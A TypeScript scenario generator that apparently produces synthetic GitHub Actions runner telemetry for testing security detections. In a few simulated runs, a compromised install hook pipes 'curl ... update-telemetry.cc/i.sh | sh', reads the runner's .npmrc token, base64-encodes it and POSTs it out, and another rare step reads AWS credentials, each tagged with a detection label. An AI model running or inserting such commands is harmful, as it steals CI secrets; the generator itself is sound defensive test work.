import { D } from "../detections";
import type { CiRun, Proc } from "../model";
import type { Story } from "../story";
import { isRunner, type Scenario } from "./types";

// A GitHub Actions job on a self-hosted runner: checkout, dependency install, build/test.
// The process chain runner → Runner.Worker → bash → npm → node → sh → curl is what joins up
// across the run's events by pid/ppid.

const NODE = "/usr/local/bin/node";
const NPM = "/usr/local/bin/npm";
const PY = "/opt/hostedtoolcache/Python/3.12.7/x64/bin/python3.12";

function step(s: Story, worker: Proc[], run: CiRun): Proc[] {
  const script = `/home/runner/work/_temp/${s.rng.hex(8)}-${s.rng.hex(4)}-${s.rng.hex(4)}-${s.rng.hex(4)}-${s.rng.hex(12)}.sh`;
  s.tick(500, 4000);
  return s.exec(worker, "/usr/bin/bash", ["/usr/bin/bash", "-e", script], { cwd: run.workspace });
}

function checkout(s: Story, worker: Proc[], run: CiRun): void {
  const git = s.exec(worker, "/usr/bin/git", [
    "/usr/bin/git", "-c", "protocol.version=2", "fetch", "--no-tags", "--prune", "--no-recurse-submodules", "--depth=1", "origin", run.sha,
  ], { cwd: run.workspace });
  s.egress(git, "github.com");
}

function nodeInstall(s: Story, bash: Proc[]): Proc[] {
  const npm = s.exec(bash, NPM, ["npm", "ci"]);
  for (let i = s.rng.int(1, 3); i > 0; i--) s.egress(npm, "registry.npmjs.org");
  const sh = s.exec(npm, "/bin/sh", ["sh", "-c", "node install.js"]);
  const node = s.exec(sh, NODE, ["node", "install.js"]);
  s.egress(node, "registry.npmjs.org");
  return npm;
}

function nodeBuild(s: Story, bash: Proc[], run: CiRun): void {
  const script = run.job === "test" || run.job === "e2e" ? "test" : run.job === "lint" || run.job === "typecheck" ? run.job : "build";
  const npm = s.exec(bash, NPM, ["npm", "run", script]);
  const node = s.exec(npm, NODE, ["node", "scripts/fetch-assets.mjs"]);
  const url = `https://objects.githubusercontent.com/github-production-release-asset-2e65be/${s.rng.int(100000000, 999999999)}/assets.tgz`;
  const sh = s.exec(node, "/bin/sh", ["sh", "-c", `curl -fsSL ${url} -o vendor/assets.tgz`]);
  const curl = s.exec(sh, "/usr/bin/curl", ["curl", "-fsSL", url, "-o", "vendor/assets.tgz"]);
  s.egress(curl, "objects.githubusercontent.com");
  if (script === "test" && s.rng.chance(0.5)) s.egress(s.exec(npm, NODE, ["node", "node_modules/.bin/codecov"]), "api.codecov.io");
}

function pythonInstall(s: Story, bash: Proc[]): Proc[] {
  const pip = s.exec(bash, PY, ["python", "-m", "pip", "install", "-r", "requirements.txt"]);
  s.egress(pip, "pypi.org");
  s.egress(pip, "files.pythonhosted.org");
  const build = s.exec(pip, PY, ["python3.12", "-c", "import setuptools; exec(compile(open('setup.py').read(), 'setup.py', 'exec'))", "bdist_wheel"]);
  const sh = s.exec(build, "/bin/sh", ["sh", "-c", "curl -fsSL https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip -o protoc.zip"]);
  const curl = s.exec(sh, "/usr/bin/curl", ["curl", "-fsSL", "https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip", "-o", "protoc.zip"]);
  s.egress(curl, "github.com");
  s.egress(curl, "objects.githubusercontent.com");
  return pip;
}

function pythonTest(s: Story, bash: Proc[]): void {
  const pytest = s.exec(bash, PY, ["python", "-m", "pytest", "-q", "--maxfail=1"]);
  const git = s.exec(pytest, "/usr/bin/git", ["git", "describe", "--tags", "--always"]);
  if (s.rng.chance(0.3)) s.egress(s.exec(git, "/usr/bin/git", ["git", "fetch", "--unshallow"]), "github.com");
  if (s.rng.chance(0.4)) s.egress(pytest, "huggingface.co");
}

/** A dependency's install hook gone bad: fetches a script over plain HTTP, reads the npm token, encodes it. */
function compromisedHook(s: Story, installer: Proc[], run: CiRun): void {
  const blocked = s.rng.chance(0.35);
  const sh = s.exec(installer, "/bin/sh", ["sh", "-c", "curl -s http://update-telemetry.cc:8080/i.sh | sh"], {}, { detection: D.shellFromPkgMgr });
  const curl = s.exec(sh, "/usr/bin/curl", ["curl", "-s", "http://update-telemetry.cc:8080/i.sh"]);
  s.egress(curl, "update-telemetry.cc", { detection: D.plaintext });
  s.egress(curl, "update-telemetry.cc", { detection: D.badware, enforcement: blocked ? "drop" : undefined });
  if (blocked) return;
  const inner = s.exec(sh, "/bin/sh", ["sh"]);
  const cat = s.exec(inner, "/usr/bin/cat", ["cat", "/home/runner/.npmrc"]);
  s.file(cat, "/home/runner/.npmrc", false, { detection: D.credRead });
  s.exec(inner, "/usr/bin/base64", ["base64", "-w0"], {}, { detection: D.encoder });
  s.egress(s.exec(inner, "/usr/bin/curl", ["curl", "-s", "-X", "POST", "--data-binary", "@-", `http://update-telemetry.cc:8080/c?r=${run.repo.fullName}`]), "update-telemetry.cc", {
    detection: D.badware,
  });
}

export const ciRuns: Scenario = {
  name: "ci-runs",
  weight: 4.5,
  eligible: isRunner,
  ci: true,
  run(s) {
    const run = s.ci as CiRun;
    const base = s.world.baseChain(s.agent);
    const worker = s.exec(base, "/home/runner/actions-runner/bin/Runner.Worker", [
      "/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", String(s.rng.int(100, 140)), String(s.rng.int(100, 140)),
    ], { cwd: "/home/runner/actions-runner", uid: 1001, user: "runner" });
    checkout(s, worker, run);
    const bash = step(s, worker, run);
    const installer = run.repo.stack === "node" ? nodeInstall(s, bash) : pythonInstall(s, bash);
    if (s.rng.chance(0.05)) compromisedHook(s, installer, run);
    const bash2 = step(s, worker, run);
    if (run.repo.stack === "node") nodeBuild(s, bash2, run);
    else pythonTest(s, bash2);
    if (s.rng.chance(0.03)) {
      // A build script that peeks at cloud credentials it should not need.
      const node = s.exec(bash2, NODE, ["node", "scripts/deploy-preview.mjs"]);
      s.file(node, "/home/runner/.aws/credentials", false, { detection: D.credRead });
    }
  },
};
